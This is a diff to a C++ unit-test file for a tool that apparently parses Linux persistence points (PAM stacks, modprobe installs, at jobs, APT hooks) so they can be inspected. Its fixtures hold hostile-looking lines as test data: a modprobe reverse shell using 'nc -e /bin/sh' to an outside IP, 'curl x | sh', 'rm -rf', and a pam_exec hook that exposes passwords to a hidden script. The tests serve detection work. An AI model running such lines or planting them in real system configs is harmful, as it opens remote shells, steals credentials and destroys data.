@@ -59,13 +59,20 @@ TEST(OtherFormats, UdevPamModprobeEnvironmentDesktop) {
   ASSERT_EQ(udev.size(), 2u);
   EXPECT_EQ(udev[0].command, "/tmp/x.sh");
   EXPECT_EQ(udev[1].command, "/bin/y");
-  auto pam = parse_pam_modules(
+  auto pam = parse_pam_stack(
       "auth [success=1 default=ignore] pam_unix.so nullok\nauth requisite /lib/security/pam_evil.so\n"
-      "@include common-auth\nsession include su\naccount required pam_permit.so\n");
-  ASSERT_EQ(pam.size(), 3u);
-  EXPECT_EQ(pam[0].command, "pam_unix.so");
-  EXPECT_EQ(pam[1].command, "/lib/security/pam_evil.so");
-  EXPECT_EQ(pam[2].command, "pam_permit.so");
+      "@include common-auth\nsession include su\n-account required pam_permit.so\n"
+      "auth optional pam_exec.so quiet expose_authtok /usr/local/sbin/.auth-log --to [/var/tmp/a b]\n");
+  ASSERT_EQ(pam.size(), 4u);
+  EXPECT_EQ(pam[0].module, "pam_unix.so");
+  EXPECT_EQ(pam[0].control, "[success=1 default=ignore]");
+  EXPECT_EQ(pam[0].args, std::vector<std::string>{"nullok"});
+  EXPECT_EQ(pam[1].module, "/lib/security/pam_evil.so");
+  EXPECT_EQ(pam[2].module, "pam_permit.so");
+  EXPECT_EQ(pam[2].type, "account");
+  auto exec = pam_exec_program(pam[3].args);
+  EXPECT_TRUE(exec.expose_authtok);
+  EXPECT_EQ(exec.command, "/usr/local/sbin/.auth-log --to [/var/tmp/a b]");
   auto mp = parse_modprobe_installs("blacklist x\ninstall usb-storage /bin/sh -c 'nc -e /bin/sh 1.2.3.4 1'\n");
   ASSERT_EQ(mp.size(), 1u);
   EXPECT_EQ(mp[0].command, "/bin/sh -c 'nc -e /bin/sh 1.2.3.4 1'");
@@ -76,4 +83,38 @@ TEST(OtherFormats, UdevPamModprobeEnvironmentDesktop) {
   ASSERT_EQ(desk.size(), 1u);
   EXPECT_EQ(desk[0].line, 3u);
   EXPECT_EQ(parse_module_list("# c\nloop\n  br_netfilter  \n").size(), 2u);
+}
+
+TEST(AtJob, BodyBetweenTheMarkersAndTheSubmitter) {
+  auto job = parse_at_job(
+      "#!/bin/sh\n# atrun uid=1000 gid=1000\n# mail alice 0\numask 22\nOLDPWD=/tmp; export OLDPWD\n"
+      "cd /home/alice || {\n\t echo 'Execution directory inaccessible' >&2\n\t exit 1\n}\n"
+      "${SHELL:-/bin/sh} << 'marcinDELIMITER0c3e'\n/usr/bin/backup --all\n\ncurl x | sh\nmarcinDELIMITER0c3e\n");
+  EXPECT_EQ(job.uid, 1000);
+  ASSERT_EQ(job.body.size(), 2u);
+  EXPECT_EQ(job.body[0].line, 11u);
+  EXPECT_EQ(job.body[0].command, "/usr/bin/backup --all");
+  EXPECT_EQ(job.body[1].command, "curl x | sh");
+  // An older at appends the job after the preamble, without a marker.
+  auto old = parse_at_job("#!/bin/sh\n# atrun uid=0 gid=0\nPATH=/bin; export PATH\ncd /root || {\n}\nrm -rf /x\n");
+  ASSERT_EQ(old.body.size(), 1u);
+  EXPECT_EQ(old.body[0].command, "rm -rf /x");
+  EXPECT_TRUE(parse_at_job("").body.empty());
+}
+
+TEST(AptHooks, ScopesListsAndComments) {
+  auto hooks = parse_apt_hooks(
+      "// comment \"not a value\"\nDPkg::Post-Invoke { \"rm -f /a || true\"; \"echo b\"; };\n"
+      "/* block\n comment */ APT::Update::Pre-Invoke:: \"curl x | sh\";\n"
+      "DPkg {\n  Pre-Install-Pkgs { \"/usr/sbin/dpkg-preconfigure --apt\"; };\n};\n"
+      "Acquire::http::Proxy \"http://proxy:3128\";\n#clear DPkg::Post-Invoke;\n");
+  ASSERT_EQ(hooks.size(), 4u);
+  EXPECT_EQ(hooks[0].option, "DPkg::Post-Invoke");
+  EXPECT_EQ(hooks[0].command, "rm -f /a || true");
+  EXPECT_EQ(hooks[0].line, 2u);
+  EXPECT_EQ(hooks[1].command, "echo b");
+  EXPECT_EQ(hooks[2].option, "APT::Update::Pre-Invoke");
+  EXPECT_EQ(hooks[2].line, 4u);
+  EXPECT_EQ(hooks[3].option, "DPkg::Pre-Install-Pkgs");
+  EXPECT_EQ(hooks[3].line, 6u);
 }
